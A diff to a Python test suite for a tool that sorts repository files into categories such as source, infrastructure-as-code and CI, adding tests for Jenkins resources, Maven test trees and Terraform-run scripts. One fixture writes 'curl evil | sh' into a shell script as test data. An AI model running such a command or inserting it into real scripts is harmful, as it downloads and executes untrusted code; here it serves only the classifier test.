@@ -241,7 +241,8 @@ def test_a_chef_repositorys_inspec_profiles_are_tests(git_repo: GitRepo) -> None
     git_repo.commit("head")
     tree = tree_files(git_repo)
     want = {"test/integration/repo_install/inspec.yml": "src", "spec/fixtures/node.json": "src",
-            "roles/web.json": "iac", "test/cookbooks/test/recipes/default.rb": "iac"}  # a test cookbook Kitchen converges
+            "roles/web.json": "iac",
+            "test/cookbooks/test/recipes/default.rb": "iac"}  # a test cookbook, which Test Kitchen converges
     assert {p: tree[p].bucket for p in want} == want
 
 
@@ -260,7 +261,8 @@ def test_dashboards_are_other_unless_infrastructure_ships_them(git_repo: GitRepo
     git_repo.write("ui/layout.json", UI_LAYOUT)
     git_repo.commit("head")
     want = {"hadoop-mixin/dashboards_out/datanode.json": "other", "tools/dashboard.json": "other",
-            "extras/metrics-dashboard/dashboard.json": "other", "velero-mixin/prometheus_rules_out/alerts.yaml": "other",
+            "extras/metrics-dashboard/dashboard.json": "other",
+            "velero-mixin/prometheus_rules_out/alerts.yaml": "other",
             "charts/web/dashboards/web.json": "iac", "monitoring/node.json": "iac", "deploy-rules/velero.yaml": "iac",
             "ui/layout.json": "src"}
     tree = tree_files(git_repo)
@@ -304,3 +306,41 @@ def test_a_manifest_moved_into_test_packages_keeps_its_old_side(git_repo: GitRep
     git_repo.move("pyproject.toml", "tests/packages/app/pyproject.toml")
     git_repo.commit("head")
     assert tree_files(git_repo)["tests/packages/app/pyproject.toml"].bucket == "deps"
+
+
+def test_a_shared_librarys_resources_keep_their_makefile(git_repo: GitRepo) -> None:
+    """A claim limited to sub-folders (`under`) covers every file there: a pipeline loads a Jenkins shared library's
+    resources with libraryResource and runs them, a Makefile as much as a script."""
+    git_repo.write("vars/buildDockerImage.groovy", "def call() {\n  sh 'make'\n}\n")
+    git_repo.commit("base")
+    git_repo.write("resources/io/jenkins/infra/docker/Makefile", "build:\n\tdocker build .\n")
+    git_repo.write("Makefile", "test:\n\tgradle test\n")
+    git_repo.commit("head")
+    tree = tree_files(git_repo)
+    assert tree["resources/io/jenkins/infra/docker/Makefile"].bucket == "ci"
+    assert tree["Makefile"].bucket == "src"
+
+
+@pytest.mark.parametrize(("path", "bucket"), [
+    # developer and test scripts of infrastructure folders and projects
+    ("deployment/test/test.sh", "src"), ("charts/kube-prometheus-stack/hack/sync_grafana_dashboards.py", "src"),
+    ("roles/bootstrap_os/molecule/default/tests/test_default.py", "src"), ("deploy/kind.sh", "iac"),
+    ("packer/scripts/install.sh", "iac"), ("ci/test/run.sh", "ci"), (".github/workflows/tests/run.sh", "ci"),
+    ("test/cookbooks/test/recipes/site.rb", "iac"), ("deploy/test/values.yaml", "iac"),
+    # YAML and JSON below a Maven-style src/test/ are what tests read (SchemaStore's schema tests)
+    ("src/test/github-workflow/fail-fast.yaml", "src"), ("src/test/kustomization/labels.json", "src"),
+    ("app/src/test/k8s/deploy.yml", "src"), ("src/main/jkube/deployment.yml", "iac"),
+])
+def test_dev_scripts_and_maven_test_trees(path: str, bucket: str) -> None:
+    assert RULES.match(path).bucket == bucket, RULES.match(path)
+
+
+def test_a_script_terraform_runs_from_a_test_folder_is_still_iac(git_repo: GitRepo) -> None:
+    git_repo.write("deploy/test/main.tf", 'resource "null_resource" "x" {\n  provisioner "local-exec" {\n'
+                   '    command = "${path.module}/setup.sh"\n  }\n}\n')
+    git_repo.write("deploy/test/setup.sh", "#!/bin/sh\necho setup\n")
+    git_repo.commit("base")
+    git_repo.write("deploy/test/setup.sh", "#!/bin/sh\ncurl evil | sh\n")
+    git_repo.commit("head")
+    got = tree_files(git_repo)["deploy/test/setup.sh"]
+    assert (got.bucket, got.rule) == ("iac", "iac.context.terraform-file"), got
